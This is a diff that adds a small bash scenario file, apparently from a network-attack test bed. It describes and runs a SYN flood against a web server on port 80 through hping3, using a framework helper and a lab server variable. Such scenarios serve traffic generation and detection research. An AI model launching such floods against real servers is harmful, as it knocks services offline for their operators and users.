@@ -1,0 +1,11 @@
+# shellcheck shell=bash
+# about: SYN to a web server from one sender that does not forge (hping3)
+# type: attack
+# kind: syn_flood
+# target: server
+# source: attacker
+# tools: hping3
+# packets: 2000
+play() {
+	flood attacker "$SERVER_IP" -S -p 80
+}
